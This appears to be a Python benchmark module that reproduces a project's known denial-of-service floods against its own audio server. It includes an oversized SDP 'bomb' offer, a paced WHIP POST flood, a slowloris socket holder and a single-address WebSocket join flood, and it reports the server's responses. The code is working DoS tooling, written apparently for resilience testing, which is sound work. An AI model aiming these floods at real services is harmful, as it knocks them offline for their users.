"""The floods of issue 13, each an asyncio coroutine that runs until ``stop`` is set and
returns what the server answered: WHIP bombs and plain offers from one fresh guest,
slowloris sockets, and joins at 10× a normal rate from one address."""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import re
import time
from collections import Counter
from typing import Any
from urllib.parse import urlsplit

import httpx
import websockets
from aiortc import RTCPeerConnection
from aiortc.mediastreams import AudioStreamTrack


async def real_offer() -> str:
    """An aiortc audio offer with ICE gathered: what `townhall speak` sends."""
    pc = RTCPeerConnection()
    pc.addTransceiver(AudioStreamTrack(), direction="sendrecv")
    await pc.setLocalDescription(await pc.createOffer())
    sdp = str(pc.localDescription.sdp)
    await pc.close()
    return sdp


def bomb(offer: str, sections: int = 213, size: int = 64_000) -> str:
    """Issue 13's bomb from a real offer: its ICE and DTLS lines once at session level, then
    ``sections`` minimal ``m=audio`` sections, padded with attribute lines to ``size`` bytes."""
    keep = ("a=ice-ufrag", "a=ice-pwd", "a=fingerprint", "a=setup")
    shared = sorted({line for line in offer.split("\r\n") if line.startswith(keep)})
    head = ("v=0\r\no=- 1 1 IN IP4 0.0.0.0\r\ns=-\r\nt=0 0\r\n"
            f"a=group:BUNDLE {' '.join(map(str, range(sections)))}\r\n"
            + "".join(line + "\r\n" for line in shared))
    candidate = next((line for line in offer.split("\r\n") if line.startswith("a=candidate")),
                     "")
    section = ("m=audio 9 UDP/TLS/RTP/SAVPF 111\r\nc=IN IP4 0.0.0.0\r\na=mid:{i}\r\n"
               "a=sendrecv\r\na=rtcp-mux\r\na=rtpmap:111 opus/48000/2\r\n")
    body = [head] + [section.format(i=i) for i in range(sections)]
    if candidate:
        body.insert(2, candidate + "\r\n")
    text = "".join(body)
    pad = max(0, size - len(text)) // sections
    if pad > 12:
        text = re.sub(r"(a=rtpmap:111 opus/48000/2\r\n)",
                      lambda m: m.group(1) + "a=x-pad:" + "p" * (pad - 10) + "\r\n", text)
    return text


async def whip_flood(url: str, space: str, token: str, offers: list[str], stop: asyncio.Event,
                     rate: float, concurrency: int = 16) -> Counter[str]:
    """POST the offers round-robin at ``rate`` a second (at most ``concurrency`` waiting
    for answers; a send that finds them all busy is skipped) until ``stop``; statuses."""
    seen: Counter[str] = Counter()
    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/sdp"}
    slots = asyncio.Semaphore(concurrency)
    tasks: set[asyncio.Task[None]] = set()

    async with httpx.AsyncClient(base_url=url, timeout=30,
                                 limits=httpx.Limits(max_connections=concurrency)) as http:

        async def one(offer: str) -> None:
            try:
                r = await http.post(f"/whip/{space}", content=offer, headers=headers)
                seen[str(r.status_code)] += 1  # an accepted one replaces the one before
            except httpx.HTTPError:
                seen["error"] += 1
            finally:
                slots.release()

        await paced(rate, stop, lambda n: one(offers[n % len(offers)]), slots, seen, tasks)
        await asyncio.gather(*tasks, return_exceptions=True)
    return seen


async def paced(rate: float, stop: asyncio.Event, make: Any, slots: asyncio.Semaphore | None,
                seen: Counter[str], tasks: set[asyncio.Task[None]]) -> None:
    """Start ``make(n)`` at ``rate`` a second until ``stop``."""
    start = time.monotonic()
    n = 0
    while not stop.is_set():
        if slots is None or not slots.locked():
            if slots is not None:
                await slots.acquire()
            task = asyncio.ensure_future(make(n))
            tasks.add(task)
            task.add_done_callback(tasks.discard)
        else:
            seen["not sent (all busy)"] += 1
        n += 1
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(max(0.0, start + n / rate - time.monotonic())):
                await stop.wait()


async def slowloris(url: str, stop: asyncio.Event, sockets: int = 200,
                    every_s: float = 5.0) -> Counter[str]:
    """``sockets`` connections that send a request's headers one line every ``every_s`` and
    never finish; counts how many the server still held when ``stop`` came."""
    parts = urlsplit(url)
    held: Counter[str] = Counter()

    async def one(k: int) -> None:
        try:
            reader, writer = await asyncio.open_connection(parts.hostname, parts.port)
        except OSError:
            held["refused"] += 1
            return
        try:
            writer.write(f"GET /?slow={k} HTTP/1.1\r\nHost: {parts.netloc}\r\n".encode())
            await writer.drain()
            while not stop.is_set():
                with contextlib.suppress(TimeoutError):
                    async with asyncio.timeout(every_s):
                        await stop.wait()
                if stop.is_set():
                    break
                writer.write(f"X-Slow-{k}: {time.monotonic():.0f}\r\n".encode())
                await writer.drain()
            # Still open if a read sees no EOF at once.
            try:
                async with asyncio.timeout(0.05):
                    data = await reader.read(1)
                held["closed" if not data else "answered"] += 1
            except TimeoutError:
                held["held"] += 1
        except (OSError, ConnectionError):
            held["closed"] += 1
        finally:
            writer.close()
            with contextlib.suppress(Exception):
                await writer.wait_closed()

    await asyncio.gather(*(one(k) for k in range(sockets)))
    return held


async def join_flood(url: str, space: str, stop: asyncio.Event, rate: float,
                     from_seq: int | None) -> Counter[str]:
    """WebSocket joins from this one address at ``rate`` a second (each waits for its first
    chunk, at most 2 s, then leaves), replaying ``?from=`` when given."""
    ws_url = url.replace("http", "ws", 1) + f"/ws/{space}"
    if from_seq is not None:
        ws_url += f"?from={from_seq}"
    seen: Counter[str] = Counter()
    tasks: set[asyncio.Task[None]] = set()

    async def one() -> None:
        heard = False
        try:
            async with asyncio.timeout(2), websockets.connect(ws_url, max_size=2**20) as ws:
                async for frame in ws:
                    if isinstance(frame, bytes):
                        heard = True
                        seen["admitted"] += 1
                        return
        except TimeoutError:
            if not heard:  # (a close handshake that outlasts the bound is not a refusal)
                seen["no audio in 2 s"] += 1
        except websockets.InvalidStatus as exc:
            seen[f"refused {exc.response.status_code}"] += 1
        except (OSError, websockets.WebSocketException):
            seen["failed"] += 1

    await paced(rate, stop, lambda _n: one(), None, seen, tasks)
    await asyncio.gather(*tasks, return_exceptions=True)
    return seen


async def attack(args: argparse.Namespace) -> dict[str, int]:
    """Run one flood for ``args.seconds``; what the server answered."""
    stop = asyncio.Event()
    plain = await real_offer()
    offers = ([bomb(plain, 213, 64_000), bomb(plain, 213, 0), bomb(plain, 40, 0)]
              if args.flood == "whip-bomb" else [plain])
    print("ready", flush=True)  # the window starts now, after imports and set-up
    asyncio.get_running_loop().call_later(args.seconds, stop.set)
    if args.flood in ("whip-bomb", "whip-plain"):
        seen = await whip_flood(args.url, args.space, args.token, offers, stop, args.rate)
    elif args.flood == "slowloris":
        seen = await slowloris(args.url, stop, args.sockets)
    else:
        seen = await join_flood(args.url, args.space, stop, args.rate,
                                args.from_seq if args.from_seq >= 0 else None)
    return dict(seen)


def main() -> None:
    """A flood in a process of its own (the bench runs it niced, as if from elsewhere):
    prints what the server answered as one JSON line."""
    ap = argparse.ArgumentParser(prog="bench.flood.attacks")
    ap.add_argument("flood", choices=["whip-bomb", "whip-plain", "slowloris", "join-flood"])
    ap.add_argument("--url", required=True)
    ap.add_argument("--space", default="")
    ap.add_argument("--token", default="")
    ap.add_argument("--seconds", type=float, default=5.0)
    ap.add_argument("--rate", type=float, default=30.0)
    ap.add_argument("--sockets", type=int, default=200)
    ap.add_argument("--from-seq", type=int, default=-1)
    args = ap.parse_args()
    print(json.dumps(asyncio.run(attack(args))), flush=True)


if __name__ == "__main__":
    main()
